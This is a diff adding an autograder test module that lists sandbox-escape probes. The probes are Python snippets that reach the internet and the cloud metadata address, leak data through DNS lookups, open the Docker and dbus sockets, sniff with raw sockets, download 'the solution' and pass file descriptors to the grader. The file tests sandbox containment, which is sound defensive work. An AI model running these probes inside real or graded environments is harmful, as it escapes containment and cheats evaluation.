@@ -1,0 +1,69 @@
+"""Sending and receiving: sockets of all kinds, names, host services."""
+
+# ruff: noqa: E501 (an attack on one line is one attack)
+
+from tests.autograder.attacks.field import HEADS, Attack
+
+ATTACKS = [
+    Attack(
+        "tcp",
+        "connects to the internet and to the machine itself",
+        "import socket\nfor where in (('1.1.1.1', 80), ('127.0.0.1', 22), ('127.0.0.1', 80), ('169.254.169.254', 80), ('::1', 80)):\n    try:\n        socket.create_connection(where, 1); print('REACHED', where)\n    except OSError: pass",
+    ),
+    Attack(
+        "udp",
+        "sends a packet",
+        "import socket\ntry:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'CANARY', ('1.1.1.1', 53)); print('REACHED')\nexcept OSError: pass",
+    ),
+    Attack(
+        "names",
+        "sends secrets by looking up names",
+        "import socket\nfor name in ('secret.example.org', 'localhost', 'metadata.google.internal'):\n    try: print('REACHED', socket.getaddrinfo(name, 80))\n    except OSError: pass",
+    ),
+    Attack(
+        "server",
+        "waits for others to connect",
+        "import socket\ntry:\n    s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(); print('REACHED', s.getsockname())\nexcept OSError: pass",
+    ),
+    Attack(
+        "services_of_the_machine",
+        "talks to docker, dbus, the display",
+        "import glob, socket\nfor path in ('/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0', *glob.glob('/run/**/*.sock', recursive=True), *glob.glob('/tmp/**/*.sock', recursive=True)):\n    try: socket.socket(socket.AF_UNIX).connect(path); print('REACHED', path)\n    except OSError: pass",
+    ),
+    Attack(
+        "abstract_sockets",
+        "talks to sockets without a file",
+        "import socket\nfor name in (b'\\0/tmp/.X11-unix/X0', b'\\0/org/freedesktop/systemd1/notify', b'\\0x'):\n    try:\n        s = socket.socket(socket.AF_UNIX); s.bind(name); print('REACHED', name)\n    except OSError: pass",
+    ),
+    Attack(
+        "socket_pairs",
+        "makes a socket without making one",
+        "import socket\ntry:\n    a, b = socket.socketpair(); a.sendmsg([b'x'], [], 0, '/run/docker.sock'); print('REACHED')\nexcept (OSError, TypeError): pass",
+    ),
+    Attack(
+        "netlink",
+        "changes the machine's network, sniffs it",
+        "import socket\nfor family, kind in ((16, 3), (17, 3), (2, 3), (40, 1), (38, 5), (44, 3), (15, 3), (29, 3)):\n    try: socket.socket(family, kind); print('REACHED', family, kind)\n    except OSError: pass",
+    ),
+    Attack(
+        "web",
+        "downloads the solution",
+        "import urllib.request\ntry: print('REACHED', urllib.request.urlopen('http://example.org/', timeout=1).read(9))\nexcept Exception as error: print(type(error).__name__)",
+    ),
+    Attack(
+        "torch_hub",
+        "lets PyTorch download and listen",
+        "try:\n    torch.hub.load_state_dict_from_url('http://127.0.0.1:9/x', model_dir='left_behind_hub'); print('REACHED')\nexcept Exception as error: print(type(error).__name__)\ntry:\n    torch.distributed.init_process_group('gloo', init_method='tcp://127.0.0.1:29501', rank=0, world_size=1); print('REACHED')\nexcept Exception as error: print(type(error).__name__)",
+        course=HEADS,
+    ),
+    Attack(
+        "descriptors_to_the_grader",
+        "hands its open files to the grader",
+        "import gc, socket\nfor thing in gc.get_objects():\n    if isinstance(thing, socket.socket):\n        try: socket.send_fds(thing, [b'\\0' * 8], [0, 1, 2] * 20)\n        except (OSError, ValueError): pass",
+    ),
+    Attack(
+        "another_use_of_the_socket",
+        "turns the only socket it has to another address",
+        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\naddress = b'\\x02\\0\\0\\x50\\x01\\x01\\x01\\x01' + bytes(8)\nfor number in (42, 49, 50, 48):\n    if libc.syscall(number, 3, address if number != 48 else 2, 16) == 0: print('REACHED' if number != 48 else '')",
+    ),
+]
